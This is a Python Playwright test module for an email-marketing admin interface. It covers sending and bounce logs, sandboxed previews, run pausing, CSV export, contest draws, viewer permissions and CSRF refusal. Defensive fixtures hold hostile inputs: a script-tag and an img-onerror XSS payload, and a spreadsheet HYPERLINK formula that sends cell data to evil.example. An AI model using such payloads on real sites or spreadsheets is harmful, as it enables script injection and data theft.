"""Admin flows in a real browser, as an admin (and a viewer, and an attacker) lives them.

The shop's mail is really sent: `valuemail tick` and `valuemail send` (SMTP provider) to a loopback
aiosmtpd server that refuses one recipient with a 550, so the ledger holds what a real send leaves.
The app is served by waitress (as `valuemail run` serves it) on a clock the test moves, and Debian's
Chromium (Playwright) drives it at desktop size: log in, find one recipient's delivery through the
send log filters, read why a message bounced, compare two value dimensions, check the sandboxed
mail preview under the page's CSP, queue a test send, pause and resume its run, download the survey
answers, draw the contest, suppress and lift a contact. A viewer sees no change buttons and a
forged POST is refused. Hostile contact data never runs and shows as typed.

Every page is checked for console errors, script errors and (for the hostile data) a window flag,
and saved as a full-page screenshot under test-artifacts/admin-flow-*.png.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

import pytest
import requests
from sqlalchemy import func, select, update
from sqlmodel import Session

from engine import contests, surveys
from engine.campaigns import load_campaign
from engine.clock import FixedClock
from engine.db import session_scope
from engine.models import (Contact, Contest, ContestEntry, Delivery, DeliveryEvent, Run, Suppression,
                           SurveyResponse)
from tests.conftest import BACKENDS
from tests.support.browser import ARTIFACTS, BLANK_PNG, chromium
from tests.support.smtpd import SmtpSink

from .logins import PASSWORD, make_admin
from .test_browser_flows import Site, add_order, contact, delivery_of, english_contacts

UTC = timezone.utc
BOTH = pytest.mark.parametrize("database_url", [b for b in ("sqlite", "postgresql") if b in BACKENDS], indirect=True)

ORDERED = datetime(2027, 3, 1, 10, 0, tzinfo=UTC)
SURVEY_DUE = ORDERED + timedelta(days=7, hours=1)  # order-survey: seven days after the order
SALE_SENT = datetime(2027, 3, 20, 8, 0, tzinfo=UTC)  # spring-sale's `at`, 09:00 in Amsterdam
ADMIN_AT = datetime(2027, 3, 20, 12, 0, tzinfo=UTC)  # the admin looks that afternoon
CONTEST_OPENS = datetime(2027, 4, 6, 7, 0, tzinfo=UTC)
AFTER_CLOSE = datetime(2027, 4, 28, 10, 30, tzinfo=UTC)
BOUNCER = "user4@example.com"
REFUSAL = "550 5.1.1 <user4@example.com>: Recipient address rejected: User unknown in virtual mailbox table"
DSN = "550 5.2.1 The email account that you tried to reach is disabled"
SCRIPT = "<script>window.__pwned = 1</script>"
IMG = '<img src="x" onerror="window.__pwned = 2">'
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
# What Chromium logs for a response with an error status; the page's own status is asserted instead.
_STATUS_LOG = re.compile(r"Failed to load resource: the server responded with a status of (\d{3})")


# -- the admin's browser ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser():
    """One Chromium for the module; each admin gets their own context (cookies) in it."""
    with chromium() as started:
        yield started


@dataclass
class Desk:
    """One admin's browser at desktop size: its own cookies, console and script errors collected."""

    browser: object
    site_url: str
    problems: list[str] = field(default_factory=list)

    def __post_init__(self):
        self.context = self.browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
        origin = self.site_url.rstrip("/")
        # No internet: other hosts' images are blank, anything else from them is refused.
        self.context.route(lambda url: not (url == origin or url.startswith(origin + "/")), self._offline)
        self.page = self.context.new_page()
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda exc: self.problems.append(f"script error: {exc}"))

    def _console(self, message) -> None:
        if message.type == "error":
            self.problems.append(f"console: {message.text} @ {message.location.get('url', '')}")

    @staticmethod
    def _offline(route):
        if route.request.resource_type == "image":
            route.fulfill(status=200, content_type="image/png", body=BLANK_PNG)
        else:
            route.abort("internetdisconnected")

    def open(self, path: str):
        response = self.page.goto(self.site_url + path)
        self.page.wait_for_load_state("load")
        return response

    def click(self, selector: str) -> None:
        """Click `selector` and wait for the page it leads to."""
        with self.page.expect_navigation():
            self.page.locator(selector).first.click()
        self.page.wait_for_load_state("load")

    def log_in(self, email: str) -> None:
        self.open("/admin/")
        assert self.heading() == "Log in"
        self.page.fill("#email", email)
        self.page.fill("#password", PASSWORD)
        self.click("button[type=submit]")
        assert email in self.text()

    def heading(self) -> str:
        return self.page.locator("h1").first.inner_text().strip()

    def text(self) -> str:
        return self.page.locator("body").inner_text()

    def preview_images(self) -> set[str]:
        """The remote image URLs of the mail previews (sandboxed srcdoc frames) on the page shown."""
        frames = self.page.locator("iframe.mail-preview")
        found = set()
        for index in range(frames.count()):
            found.update(frames.nth(index).content_frame.locator("img").evaluate_all("i => i.map(e => e.src)"))
        return {src for src in found if not src.startswith(self.site_url + "/")}

    def check(self, name: str, *, status: int = 200) -> None:
        """No console or script error, nothing injected ran; then the full-page screenshot.

        A mail preview's remote images cannot load on this offline machine, and Playwright's
        routing does not see a sandboxed srcdoc frame's requests: a lookup error for exactly those
        URLs is expected (a CSP refusal, or any other error, is not).
        """
        assert self.page.evaluate("window.__pwned") is None, f"{name}: hostile data ran"
        ARTIFACTS.mkdir(exist_ok=True)
        self.page.screenshot(path=str(ARTIFACTS / f"admin-flow-{name}.png"), full_page=True)
        offline = {f"console: Failed to load resource: net::ERR_NAME_NOT_RESOLVED @ {url}"
                   for url in self.preview_images()}
        unexpected = [p for p in self.problems if p not in offline
                      and not ((m := _STATUS_LOG.search(p)) and int(m.group(1)) == status)]
        self.problems.clear()
        assert unexpected == [], f"{name}: {len(unexpected)} problem(s), the first: {unexpected[:5]}"

    def csrf_token(self) -> str:
        """The session's CSRF token, from the page shown (every admin page has the log-out form)."""
        return self.page.locator('input[name="csrf_token"]').first.get_attribute("value")

    def post(self, path: str, form: dict):
        """A POST from this browser's session (its cookies), not through a form on the page."""
        return self.context.request.post(self.site_url + path, form=form, max_redirects=0)

    def close(self) -> None:
        self.context.close()


# -- the shop: real sends to a loopback SMTP server --------------------------------------------------

@pytest.fixture
def shop(project, database_url, db, browser):
    """spring-sale, order-survey and spring-contest; the app on a movable clock, served by waitress."""
    with SmtpSink() as sink:
        made = Site(project=project, database_url=database_url, db=db, browser=browser, sink=sink)
        for path in (project / "campaigns").glob("*.toml"):
            if path.stem not in ("spring-sale", "order-survey", "spring-contest", "segments"):
                path.unlink()
        made.clock = FixedClock(ADMIN_AT)
        made.start(made.clock)
        made.desks = []
        try:
            yield made
        finally:
            for desk in made.desks:
                desk.close()
            made.stop()


def desk(shop) -> Desk:
    opened = Desk(shop.browser, shop.url)
    shop.desks.append(opened)
    return opened


def send_the_mail(shop, db) -> dict:
    """Six English contacts (user5 with hostile names); surveys sent and answered, the spring sale sent.

    user4's address is refused by the SMTP server (550 at RCPT); user1's sale mail is reported
    bounced later: a bounced event with the receiving server's reason, in the form the bounce
    webhooks record (engine/bounces.py).
    """
    english_contacts(db, 6)
    with session_scope(db) as s:
        s.execute(update(Contact).where(Contact.email_key == "user5@example.com")
                  .values(first_name=SCRIPT, last_name=FORMULA, attributes={"note": IMG}))
    for n in range(6):
        add_order(db, contact(db, f"user{n}@example.com").id, f"EX-{n}", ORDERED)
    shop.sink.handler.replies[BOUNCER] = REFUSAL

    assert "order-survey: started run" in shop.valuemail("tick", "--at", SURVEY_DUE.isoformat())
    mails = shop.mails()
    # Three answer in the mail (one click each, over HTTP); user5's free text is hostile.
    for n, score in ((0, "10"), (1, "9"), (2, "3")):
        answer = requests.get(mails[f"user{n}@example.com"].link(score), timeout=10)
        assert answer.status_code == 200
    survey = load_campaign(shop.settings.campaigns_dir / "order-survey.toml", settings=shop.settings,
                           segment_names=None, today=None).section
    hostile_answer = delivery_of(db, "user5@example.com", "order-survey")
    with session_scope(db) as s:
        surveys.record_answer(s, survey=survey, delivery_id=hostile_answer.id, question="improve",
                              value=f"{FORMULA} {SCRIPT}", now=SURVEY_DUE + timedelta(hours=3))

    seen = len(shop.sink.messages)
    assert "started run" in shop.valuemail("--as-of", SALE_SENT.isoformat(), "send", "spring-sale")
    assert sorted(shop.mails(since=seen)) == [f"user{n}@example.com" for n in (0, 1, 2, 3, 5)]
    bounced = delivery_of(db, "user1@example.com", "spring-sale")
    with session_scope(db) as s:
        s.add(DeliveryEvent(delivery_id=bounced.id, type="bounced", occurred_at=SALE_SENT + timedelta(minutes=20),
                            data={"provider": "smtp", "kind": "hard", "code": "5.2.1", "diagnostic": DSN}))
    return {"bounced": bounced, "refused": delivery_of(db, BOUNCER, "spring-sale")}


def sent_count(db, campaign_id: str) -> int:
    with Session(db) as s:
        return s.execute(select(func.count()).select_from(Delivery).join(Run, Run.id == Delivery.run_id).where(
            Run.campaign_id == campaign_id, Run.is_test.is_(False), Delivery.status == "sent")).scalar()


# -- the admin's afternoon ---------------------------------------------------------------------------

@BOTH
def test_an_admin_finds_reads_compares_previews_tests_pauses_exports_draws_and_suppresses(shop, db, tmp_path):
    ledger = send_the_mail(shop, db)
    make_admin(db, "admin@example.com")
    admin = desk(shop)

    # Log in; an admin page sends the visitor to the form first.
    admin.log_in("admin@example.com")
    admin.check("login-done")

    # One recipient's delivery, through the send log's filters.
    admin.click("nav.nav a:text-is('Send log')")
    assert admin.heading() == "Send log"
    admin.check("send-log")
    admin.page.fill('form.filters input[name="email"]', "USER2@example.com")  # any capitals
    admin.page.select_option('form.filters select[name="campaign"]', "spring-sale")
    admin.click("form.filters button[type=submit]")
    wanted = delivery_of(db, "user2@example.com", "spring-sale")
    rows = admin.page.locator("table.deliveries tbody tr")
    assert rows.count() == 1 and rows.first.get_attribute("id") == f"d{wanted.id}"
    admin.check("send-log-one-recipient")
    admin.click(f"#d{wanted.id} a:text-is('#{wanted.id}')")
    assert admin.heading() == f"Delivery #{wanted.id} sent"
    assert admin.page.locator("dd.email").inner_text() == "user2@example.com"
    headers = admin.page.locator("table.headers").inner_text()
    assert f"Message-ID\t{wanted.message_id}" in headers and "List-Unsubscribe-Post" in headers
    assert [e.get_attribute("class") for e in admin.page.locator("ol.timeline li").all()] == [
        "event event-queued", "event event-sent"]
    admin.check("delivery")

    # Why a message bounced: refused by the receiving server (a failed delivery with its reply) ...
    admin.open("/admin/log")
    admin.page.select_option('form.filters select[name="status"]', "failed")
    admin.click("form.filters button[type=submit]")
    refused = ledger["refused"]
    row = admin.page.locator(f"#d{refused.id}")
    # user4 was refused twice: the survey and the sale, newest first.
    assert [r.get_attribute("id") for r in admin.page.locator("table.deliveries tbody tr").all()] == [
        f"d{refused.id}", f"d{delivery_of(db, BOUNCER, 'order-survey').id}"]
    assert row.locator("td.email").inner_text() == BOUNCER and "550 5.1.1" in row.locator("td.error").inner_text()
    admin.check("send-log-failed")
    admin.click(f"#d{refused.id} a:text-is('#{refused.id}')")
    assert admin.heading() == f"Delivery #{refused.id} failed"
    assert admin.page.locator("#provider-response").inner_text() == refused.last_error
    assert REFUSAL.split(": ", 1)[1] in refused.last_error  # the server's own words, kept
    assert admin.page.locator("ol.timeline li.event-failed").inner_text().count("550 5.1.1") == 1
    admin.check("delivery-refused")
    # ... and accepted, then reported bounced: the bounced event on the timeline, with the reason.
    admin.open(f"/admin/log?email=user1%40example.com&campaign=spring-sale")
    admin.click(f"#d{ledger['bounced'].id} a:text-is('#{ledger['bounced'].id}')")
    bounce = admin.page.locator("ol.timeline li.event-bounced")
    assert bounce.count() == 1 and f"diagnostic={DSN}" in bounce.inner_text() and "kind=hard" in bounce.inner_text()
    assert [e.get_attribute("class").split("-")[-1] for e in admin.page.locator("ol.timeline li").all()] == [
        "queued", "sent", "bounced"]
    admin.check("delivery-bounced")

    # Two value dimensions side by side: economic (the sale) and functional (the survey).
    admin.click("nav.nav a:text-is('Dashboard')")
    admin.page.select_option('form.filters select[name="group"]', "value")
    admin.page.select_option('form.filters select[name="period"]', "month")
    admin.click("form.filters button[type=submit]")
    assert "group=value" in admin.page.url
    economic, functional = (admin.page.locator(f'tr[data-group="{v}"] td') for v in ("economic", "functional"))
    sale, survey_sent = sent_count(db, "spring-sale"), sent_count(db, "order-survey")
    assert (sale, survey_sent) == (5, 5)  # user4 was refused each time
    assert economic.nth(0).inner_text() == "5" and functional.nth(0).inner_text() == "5"
    assert economic.nth(1).inner_text() == "4 (80.0%)" and functional.nth(1).inner_text() == "5 (100.0%)"
    assert economic.nth(7).inner_text() == "1 (20.0%)" and functional.nth(7).inner_text() == "0 (0.0%)"  # bounced
    assert admin.page.locator("figure.chart-box svg").count() >= 1
    admin.check("dashboard-values")

    # The campaign: its previews render inside the sandboxed frame under the page's CSP.
    admin.click("nav.nav a:text-is('Campaigns')")
    admin.check("campaigns")
    admin.click("a:text-is('spring-sale')")
    assert admin.heading().startswith("spring-sale")
    previews = admin.page.locator("iframe.mail-preview")
    assert previews.count() == 2  # gold and everyone
    for index in range(previews.count()):
        assert previews.nth(index).get_attribute("sandbox") == ""
        frame = previews.nth(index).content_frame
        frame.locator("body").wait_for()
        assert "Fresh for spring" in frame.locator("body").inner_text()
        box = previews.nth(index).bounding_box()
        assert box["height"] >= 500 and box["width"] > 600
        # A full-page screenshot leaves the (out-of-process) frame blank: each frame gets its own.
        segment = previews.nth(index).locator("xpath=..").get_attribute("data-segment")
        previews.nth(index).screenshot(path=str(ARTIFACTS / f"admin-flow-preview-{segment}.png"))
        # The mail's inline styles apply (the policy allows them in the frame): the code's box is dashed.
        borders = frame.locator("[style*='dashed']").evaluate_all(
            "boxes => boxes.map(b => getComputedStyle(b).borderTopStyle)")
        assert borders and set(borders) == {"dashed"}, borders
    remote = admin.preview_images()
    # Every remote image is https: the page's policy lets them load (a CSP refusal would be a console error).
    assert remote and all(src.startswith("https://") for src in remote), remote
    admin.check("campaign-previews")

    # A test send, queued; its run paused and resumed; the worker then sends it.
    admin.page.fill('form.send-test input[name="to"]', "qa@example.com")
    admin.click("form.send-test button[type=submit]")
    flash = admin.page.locator("p.flash").inner_text()
    # One message per segment variant with a member to render it for: nobody is gold, so one.
    test_run = int(re.search(r"Test run #(\d+) queued: 1 message\(s\), one per segment variant, to qa@example\.com",
                             flash).group(1))
    admin.check("test-send-queued")
    admin.click(f'tr[data-run="{test_run}"] a')
    assert admin.heading() == f"Run #{test_run} · spring-sale"
    admin.click("#pause_run")
    assert "paused by admin@example.com" in admin.text()
    with Session(db) as s:
        assert s.get(Run, test_run).status == "paused"
    admin.check("run-paused")
    admin.click("#resume_run")
    assert admin.page.locator("dd span.status").first.inner_text() == "sending"
    assert admin.page.locator("#pause_run").count() == 1
    admin.check("run-resumed")
    seen = len(shop.sink.messages)
    shop.valuemail("tick", "--at", (ADMIN_AT + timedelta(minutes=5)).isoformat())
    tests = shop.sink.messages[seen:]
    assert [m.recipients for m in tests] == [["qa@example.com"]]
    assert "Fresh for spring" in tests[0].parse().get_body(("html",)).get_content()
    admin.open(f"/admin/runs/{test_run}")
    assert admin.page.locator('span.count[data-status="sent"]').inner_text() == "sent 1"
    admin.check("run-sent")

    # Survey answers: NPS on the list, the CSV downloaded as a file, formula-like cells neutralised.
    admin.click("nav.nav a:text-is('Surveys')")
    nps = admin.page.locator('tr[data-campaign="order-survey"] td[data-field="nps"]').inner_text()
    assert nps.startswith("33.3")  # 10 and 9 promote, 3 detracts
    admin.check("surveys")
    admin.click("a:text-is('order-survey')")
    assert "&lt;script&gt;" not in admin.text() and SCRIPT in admin.text()  # shown as typed
    admin.check("survey")
    with admin.page.expect_download() as download:
        admin.page.locator("a:text-is('Export answers (CSV)')").click()
    assert download.value.suggested_filename == "order-survey-answers.csv"
    saved = tmp_path / "answers.csv"
    download.value.save_as(saved)
    text = saved.read_text(encoding="utf-8")
    assert text.startswith("\ufeffresponse_id,first_answered_at,submitted_at,email,recommend,")
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
    with Session(db) as s:
        assert len(rows) == s.execute(select(func.count()).select_from(SurveyResponse)).scalar() == 4
    assert [rows[f"user{n}@example.com"]["recommend"] for n in range(3)] == ["10", "9", "3"]
    assert rows["user5@example.com"]["improve"] == f"'{FORMULA} {SCRIPT}"  # a spreadsheet shows it, never runs it

    # A contact suppressed by hand, then lifted (lifting does not resubscribe).
    admin.click("nav.nav a:text-is('Contacts')")
    admin.page.fill('form.filters input[name="q"]', "user3@")
    admin.click("form.filters button[type=submit]")
    user3 = contact(db, "user3@example.com")
    admin.click(f"#c{user3.id} a")
    assert admin.page.locator("#contact-email").inner_text() == "user3@example.com"
    admin.page.fill('#suppression input[name="note"]', "asked by phone")
    admin.click("#suppression button[type=submit]")
    assert "reason manual: asked by phone" in admin.page.locator("#suppression").inner_text()
    assert contact(db, "user3@example.com").status == "unsubscribed"
    admin.check("contact-suppressed")
    admin.click("#suppression button:text-is('Lift suppression')")
    assert "Not suppressed." in admin.page.locator("#suppression").inner_text()
    with Session(db) as s:
        assert s.execute(select(Suppression).where(Suppression.email_key == "user3@example.com")).first() is None
    assert contact(db, "user3@example.com").status == "unsubscribed"
    admin.check("contact-lifted")

    # The contest: invitations out on its day, three entries, drawn by the admin after the close.
    shop.valuemail("tick", "--at", CONTEST_OPENS.isoformat())
    entrants = [contact(db, f"user{n}@example.com").id for n in (0, 1, 2)]
    with session_scope(db) as s:
        rules = contests.ContestRules.from_section(
            contests.stored_campaign(s, "spring-contest", settings=shop.settings).section, tz=shop.settings.tz)
        for contact_id in entrants:
            contests.enter(s, "spring-contest", contact_id, rules=rules, now=CONTEST_OPENS + timedelta(days=1))
    shop.clock.set(AFTER_CLOSE)
    admin.open("/admin/contests")
    assert admin.heading() == "Log in"  # five weeks on, the session has ended: log in again
    admin.log_in("admin@example.com")
    admin.click("nav.nav a:text-is('Contests')")
    admin.check("contests")
    admin.click("a:text-is('spring-contest')")
    assert admin.page.locator("table.entries tbody tr").count() == 3
    admin.check("contest")
    admin.click("#draw")
    assert re.search(r"Drawn: 3 winner\(s\) from 3 entries\. Winners' mail: run #\d+\.", admin.text())
    with Session(db) as s:
        row = s.get(Contest, "spring-contest")
        entered = {e.id: e.contact_id for e in s.execute(select(ContestEntry)).scalars()}
    assert row.drawn_at == AFTER_CLOSE and admin.page.locator("code.seed").inner_text() == row.seed
    assert admin.page.locator(".verify-ok").inner_text() == "verified"
    winners = admin.page.locator("ol.winners li")
    assert [int(w.get_attribute("data-entry")) for w in winners.all()] == [w["entry_id"] for w in row.winners]
    assert sorted(int(w.get_attribute("data-entry")) for w in winners.all()) == sorted(entered)
    assert admin.page.locator("#draw").count() == 0
    admin.check("contest-drawn")

    # Hostile contact data: shown as typed, never run, on the list and the contact page.
    admin.open("/admin/contacts?q=user5%40example.com")
    assert f"{SCRIPT} {FORMULA}" in admin.page.locator("table.contacts").inner_text()
    admin.check("hostile-list")
    admin.open(f"/admin/contacts/{contact(db, 'user5@example.com').id}")
    assert admin.page.locator("#contact-name").inner_text() == f"{SCRIPT} {FORMULA}"
    assert admin.page.locator("table.attributes").inner_text().endswith(IMG)
    assert admin.page.locator("#contact-name script, table.attributes img").count() == 0
    admin.check("hostile-contact")


# -- a viewer, and forged requests -------------------------------------------------------------------

@BOTH
def test_a_viewer_sees_no_change_buttons_and_forged_posts_are_refused(shop, db):
    english_contacts(db, 2)
    seen = len(shop.sink.messages)
    shop.valuemail("--as-of", SALE_SENT.isoformat(), "send", "spring-sale")
    assert len(shop.sink.messages) == seen + 2
    make_admin(db, "admin@example.com")
    make_admin(db, "viewer@example.com", role="viewer")
    admin = desk(shop)
    admin.log_in("admin@example.com")
    admin.open("/admin/campaigns/spring-sale")
    admin.page.fill('form.send-test input[name="to"]', "qa@example.com")
    admin.click("form.send-test button[type=submit]")
    test_run = int(re.search(r"Test run #(\d+) queued", admin.page.locator("p.flash").inner_text()).group(1))
    user0 = contact(db, "user0@example.com")

    viewer = desk(shop)
    viewer.log_in("viewer@example.com")
    assert viewer.page.locator("span.role").inner_text() == "viewer"
    for name, path in (("campaign", "/admin/campaigns/spring-sale"), ("run", f"/admin/runs/{test_run}"),
                       ("contest", "/admin/contests/spring-contest"), ("contact", f"/admin/contacts/{user0.id}"),
                       ("suppressions", "/admin/suppressions"), ("runs", "/admin/runs")):
        assert viewer.open(path).status == 200
        # Only the log-out form: no send, pause, resume, cancel, draw, suppress or lift.
        assert viewer.page.locator("form[method=post]").count() == 1, name
        assert viewer.page.locator("form[method=post] button").inner_text() == "Log out", name
        viewer.check(f"viewer-{name}")

    # The viewer's own session and a valid CSRF token, POSTing what the buttons would: refused.
    token = viewer.csrf_token()
    for path, form in ((f"/admin/runs/{test_run}/pause", {}), (f"/admin/runs/{test_run}/cancel", {}),
                       ("/admin/campaigns/spring-sale/test", {"to": "evil@example.com"}),
                       (f"/admin/contacts/{user0.id}/suppress", {"note": "x"})):
        assert viewer.post(path, {"csrf_token": token, **form}).status == 403, path
    # The admin's own session with a forged or missing CSRF token: refused too.
    for forged in ({"csrf_token": token}, {"csrf_token": "forged"}, {}):
        assert admin.post(f"/admin/runs/{test_run}/pause", forged).status == 400
    with Session(db) as s:
        assert s.get(Run, test_run).status == "sending"
        assert s.execute(select(func.count()).select_from(Run).where(Run.is_test.is_(True))).scalar() == 1
        assert s.execute(select(Suppression)).first() is None
    # A forged POST page in the browser itself shows the refusal, not a stack trace.
    page = viewer.context.request.post(f"{shop.url}/admin/runs/{test_run}/pause", form={"csrf_token": token})
    assert page.status == 403 and "Traceback" not in page.text()
